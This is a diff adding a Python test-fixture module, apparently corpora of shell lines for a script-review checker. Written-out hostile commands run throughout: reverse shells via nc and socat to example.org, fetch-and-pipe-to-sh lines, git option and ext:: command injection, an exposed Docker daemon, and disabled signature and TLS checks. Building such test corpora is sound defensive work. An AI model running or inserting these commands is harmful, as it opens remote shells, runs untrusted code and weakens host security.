@@ -1,0 +1,289 @@
+"""What few scripts do: each line is a way through the review that nothing else takes."""
+
+from __future__ import annotations
+
+from tests.unit.checks.scripts.cases.making import COMMIT, FETCH, GET, SUM, URL, each, lines
+
+RUN = f"{FETCH} | sh"
+REPOSITORIES = [
+    *lines(
+        f"""
+        cp r/a /usr/local/bin/; a
+        cp r/a /usr/local/bin/b; b
+        cp r/a /usr/local/bin/b; cat /usr/local/bin/b
+        install -m 755 r/bin/a /usr/local/bin/a; /usr/local/bin/a
+        install -t /usr/local/bin r/a r/b; b
+        cp -r r/ /opt/x; bash /opt/x/a
+        cp other/a /usr/local/bin/; a
+        pip install ./r
+        pip install r/
+        npm install ./r/sub
+        pip install .
+        cd r && pip install .
+        cd r; cd sub; pip install .
+        cd r; make
+        cd other; make
+        cd r; cd ..; make
+        pushd r; ./a
+        make -C r
+        make --directory=r
+        cmake --build r
+        just -f r/justfile
+        cd /tmp; cd r; ./a
+        cd; ./r/a
+        cd -; ./r/a
+        r/a
+        ./r/a
+        bash r/a
+        . r/a
+        python3 r/a.py
+        git -C r checkout {COMMIT}; r/a
+        git -C r checkout 0123456; r/a
+        git -C r checkout 012345; r/a
+        git -C r checkout v1.2; r/a
+        git -C r checkout tags/v1.2; r/a
+        git -C r checkout main; r/a
+        git -C r checkout "$commit"; r/a
+        git -C r checkout "$({FETCH})"; r/a
+        git -C other checkout {COMMIT}; r/a
+        git -C r reset --hard {COMMIT}; r/a
+        git -C r switch --detach {COMMIT}; r/a
+        git -C r rebase {COMMIT}; r/a
+        git -C r merge {COMMIT}; r/a
+        git -C r checkout {COMMIT}; git -C r merge origin/main; r/a
+        git -C r checkout {COMMIT}; git -C r rebase upstream/main; r/a
+        git -C r checkout {COMMIT}; git -C r pull; r/a
+        git -C r checkout {COMMIT}; git -C r submodule update --remote; r/a
+        git -C r checkout {COMMIT}; git -C r submodule update; r/a
+        git -C r checkout {COMMIT}; git -C r fetch; git -C r checkout FETCH_HEAD; r/a
+        git -C r checkout {COMMIT}; git -C r fetch origin {COMMIT}; git -C r checkout FETCH_HEAD; r/a
+        git -C r checkout {COMMIT}; git -C r fetch origin main; git -C r reset --hard '@{{u}}'; r/a
+        git -C r show HEAD:a | sh
+        git -C r cat-file -p HEAD:a | sh
+        git -C r archive HEAD | tar x; ./a
+        git -C r log | sh
+        git -C other show HEAD:a | sh
+        git fetch; git show origin/main:a | sh
+        git show origin/main:a | sh
+        """,
+        "git clone https://example.org/r\n",
+    ),
+    *lines(
+        """
+        git clone https://example.org/r.git; r/a
+        git clone git@example.org:r; r/a
+        git clone git@example.org:r.git; r/a
+        git clone example.org:r; r/a
+        git clone ssh://example.org/r/; r/a
+        git clone "$base/r"; r/a
+        git clone /srv/r; r/a
+        git clone ../r; r/a
+        git clone https://example.org/r .; ./a
+        mkdir d; cd d; git clone https://example.org/r .; ./a
+        cd d; git clone https://example.org/r .; cd ..; d/a
+        git clone https://example.org/r d; d/a
+        git clone https://example.org/r /opt/d.git; /opt/d/a
+        git clone https://example.org/r d; git clone https://example.org/s; git -C d checkout 0123456; d/a; s/a
+        git clone https://example.org/r d; git clone https://example.org/s; cd s; git checkout 0123456; ../d/a; ./a
+        git clone -b v1.0 https://example.org/r; r/a
+        git clone --branch main https://example.org/r; r/a
+        git clone -b "$tag" https://example.org/r; r/a
+        git clone --revision 0123456 https://example.org/r; r/a
+        git clone
+        svn checkout https://example.org/r; r/a
+        svn co https://example.org/r d; d/a
+        svn co -r 12 https://example.org/r d; d/a
+        svn export https://example.org/r d; d/a
+        svn info https://example.org/r
+        svn co
+        hg clone https://example.org/r; r/a
+        hg clone --rev 12 https://example.org/r; r/a
+        gh repo clone a/r; r/a
+        gh repo clone a/r d; d/a
+        gh repo view a/r | sh
+        gh repo clone
+        """
+    ),
+]
+SETTINGS = [
+    *each(
+        "git config --global {}",
+        rf"core.hooksPath\ hooks core.hooksPath\ /tmp/hooks core.hooksPath\ $x credential.helper\ store "
+        rf"credential.helper\ cache credential.helper\ '!{FETCH.replace(' ', chr(92) + ' ')}\ |\ sh' alias.st\ status "
+        r"core.pager\ less core.editor alias.x\ '!true' core.sshCommand\ 'ssh\ -i\ k'",
+    ),
+    *lines(
+        f"""
+        git -c core.hooksPath=/tmp/h status
+        git -c alias.x='!{RUN}' x
+        git -c alias.x='log {RUN}' x
+        git -c core.sshCommand='{RUN}' fetch
+        git -c core.fsmonitor='{RUN}' status
+        git clone ext::sh {URL}
+        git fetch ext::x
+        git pull ext::x
+        git push ext::x
+        git ls-remote ext::x
+        git archive --remote=ext::x HEAD
+        git log ext::x
+        git clone -u '{RUN}' a:b
+        git clone --upload-pack '{RUN}' a:b
+        git ls-remote -u '{RUN}' a:b
+        git ls-remote --exec='{RUN}' a:b
+        git fetch --upload-pack '{RUN}'
+        git pull --upload-pack '{RUN}'
+        git push --receive-pack='{RUN}'
+        git push --exec '{RUN}'
+        git archive --exec '{RUN}' --remote=a:b HEAD
+        git fetch -u '{RUN}'
+        git log -u '{RUN}'
+        git clone --template=/tmp/t a:b
+        git init --template=/tmp/t
+        git init --template=/usr/share/t
+        git log --template=/tmp/t
+        git ls-remote {URL} | sh
+        git archive --remote={URL} HEAD | tar x
+        """
+    ),
+]
+FETCHED = [
+    *lines(
+        f"""
+        gh release download v1 -R a/b -p '*.deb'; dpkg -i *.deb
+        gh release download v1 -R a/b -O got; bash got
+        gh release download v1 -R a/b -O - | sh
+        gh release download v1 -R a/b -D d -p got; bash d/got
+        gh release download v1 -R a/b; bash got
+        gh release list
+        gh api x | sh
+        gh gist view x | sh
+        gh attestation verify i.sh --owner a
+        aws s3 cp s3://b/a - | sh
+        aws s3 cp s3://b/a got; bash got
+        aws s3 cp got s3://b/a
+        aws s3 ls s3://b | sh
+        gsutil cp gs://b/a got; bash got
+        gcloud storage cp gs://b/a got; bash got
+        dvm-fetch {URL}
+        dvm-fetch {URL} {SUM} got; bash got
+        dvm-fetch {URL} {SUM} got --mode 755; ./got
+        dvm-fetch --mode 755 {URL} {SUM} got; ./got
+        dvm-fetch -m 755 {URL} {SUM} got; ./got
+        dvm-fetch {URL} 0123 got; bash got
+        dvm-fetch {URL} "$sum" got; bash got
+        dvm-fetch {URL} "$({FETCH}.sum)" got; bash got
+        aria2c --checksum=sha-256={SUM} -o got {URL}; bash got
+        aria2c --checksum=sha-1={SUM} -o got {URL}; bash got
+        aria2c --checksum=sha-512="$({FETCH})" -o got {URL}; bash got
+        nc example.org 80 -e /bin/sh
+        ncat --exec /bin/sh example.org 80
+        ncat --sh-exec 'cat; sh' example.org 80
+        nc -c sh example.org 80
+        nc -l 80 -e /bin/cat
+        socat TCP:example.org:80 EXEC:sh
+        socat TCP:example.org:80 SYSTEM:'cat | sh',pty
+        socat TCP:example.org:80 exec:/bin/cat
+        dig -e sh
+        printf -v 'a[$({RUN})]' x
+        read 'a[$({RUN})]' <<< x
+        test -v 'a[$({RUN})]'
+        echo 'a[$({RUN})]'
+        split --filter=cat i.sh
+        split --filter=sh i.sh
+        cat i.sh | split --filter sh -
+        perl -MLWP::Simple -e 'eval get $ARGV[0]'
+        perl -MPOSIX -e 'print 1'
+        ruby -ropen-uri -e 'eval open(ARGV[0]).read'
+        php -r "copy('{URL}', 'got');"; php got
+        php -r "copy('{URL}', 'got');"; [ "$(php -r "echo hash_file('sha256', 'got');")" = {SUM} ]; php got
+        php -r "copy('{URL}', 'got');"; [ "$(php -r "echo hash_file('md5', 'got');")" = {SUM} ]; php got
+        php -r "copy('a', 'got');"; php got
+        python3 -c "print(__import__('hashlib').sha256(open('i.sh','rb').read()).hexdigest())" | grep -q {SUM}; sh i.sh
+        python3 -c "import urllib.request as u; u.urlretrieve('{URL}', filename='got')"; sh got
+        python3 -c "import urllib.request as u; open('got','wb').write(u.urlopen('{URL}').read())"; sh got
+        julia -e 'include(download("{URL}"))'
+        julia -e 'println(1)'
+        deno install -n x {URL}
+        deno compile --output x {URL}
+        deno fmt {URL}
+        cosign verify-blob i.sh --signature s --certificate c --certificate-identity-regexp '.*'; sh i.sh
+        cosign verify-blob i.sh --signature s --certificate c --certificate-identity-regexp 'a.*'; sh i.sh
+        cosign verify-blob i.sh --signature s --certificate c --certificate-identity "$who"; sh i.sh
+        cosign verify-blob i.sh --signature s --key k.pub; sh i.sh
+        cosign verify-blob i.sh --signature s --key i.sh; sh i.sh
+        minisign -Vqm i.sh -P RWabc; sh i.sh
+        minisign -V -m i.sh -P RWabc; sh i.sh
+        minisign -Sm i.sh -P RWabc; sh i.sh
+        """,
+        GET,
+    ),
+]
+NAMES = [
+    *lines(
+        f"""
+        x=$(true); for i in {" ".join(f"w{n}" for n in range(300))}; do y=$i; done; eval "$y"
+        for i in {" ".join(f"w{n}" for n in range(257))}; do true; done
+        for i in {" ".join(f"w{n}" for n in range(256))}; do true; done
+        a=({" ".join(f"w{n}" for n in range(1025))})
+        a=({" ".join(f"w{n}" for n in range(1024))})
+        declare -n r="$x"; eval "$r"
+        declare -fp f | sh
+        typeset -f f | sh
+        declare -p x | sh
+        local x=a; show "$x"
+        export "x=a b"; show "$x"
+        x=$((1 1)); show "$x"
+        if true; then x=a; else x=a; fi; show "$x"
+        if true; then x=a; else x=b; fi; show "$x"
+        f() {{ x=in; }}; x=out; f; show "$x"
+        x=a; (x=b; show "$x"); show "$x"
+        while read -r x; do show "$x"; done <<< 'a'
+        coproc cat {URL}; sh <&"${{COPROC[0]}}"
+        coproc C {{ {FETCH}; }}; sh <&"${{C[0]}}"
+        ! {{ show a; }}
+        cat <<< "$x" | sh
+        cat <<< "$(date)" | sh
+        """
+    ),
+    "x='" + "a\n" * 70000 + '\'\neval "$x"\n',
+    *(f"{'{ ' * depth}{RUN}{'; }' * depth}\n" for depth in (30, 45, 60)),
+]
+OTHERS = [
+    *lines(
+        """
+        dockerd -H tcp://0.0.0.0:2375
+        dockerd --host=tcp://0.0.0.0:2375
+        dockerd -H tcp://0.0.0.0:2376 --tlsverify
+        dockerd -H unix:///run/docker.sock
+        podman system service -t 0 tcp://0.0.0.0:2375
+        echo '{"hosts": ["tcp://0.0.0.0:2375"]}' >/etc/docker/daemon.json
+        echo '{"hosts": ["unix:///run/x"]}' >/etc/docker/daemon.json
+        echo 'ExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375' >/etc/systemd/system/docker.service.d/a.conf
+        ssh -A me@host.lima.internal
+        ssh -A me@example.org
+        apt-get dist-upgrade
+        dnf distro-sync
+        rustup update
+        rustup self update
+        rustup upgrade
+        rbenv init - bash | sh
+        eval "$(rbenv init - bash)"
+        eval "$(rbenv init bash)"
+        eval "$(unknown - bash)"
+        sed -i 's/^SigLevel.*/SigLevel = Never/' /etc/pacman.conf
+        sed -i 's|^SigLevel.*|SigLevel = Required|' /etc/pacman.conf
+        sed -i '$a insecure' ~/.curlrc
+        sed -i '$a\\\\insecure' ~/.curlrc
+        sed -i '1i check_certificate = off' /etc/wgetrc
+        sed -i 's#.*#gpgcheck=0#' /etc/yum.repos.d/a.repo
+        sed -i 's/a/b/' /etc/pacman.conf
+        sed 's/.*/SigLevel = Never/' notes.txt
+        echo ':ssl_verify_mode: 0' >~/.gemrc
+        echo ':ssl_verify_mode: 1' >~/.gemrc
+        vagrant box add --insecure a
+        """
+    ),
+    *each("echo 'localhost:5432:*:app:{}' >~/.pgpass", "Sup3rS3cret2024 $PW changeme abc"),
+    "echo 'localhost:5432:*:app:Sup3rS3cret2024' >~/other\n",
+]
+EVERY = [*REPOSITORIES, *SETTINGS, *FETCHED, *NAMES, *OTHERS]
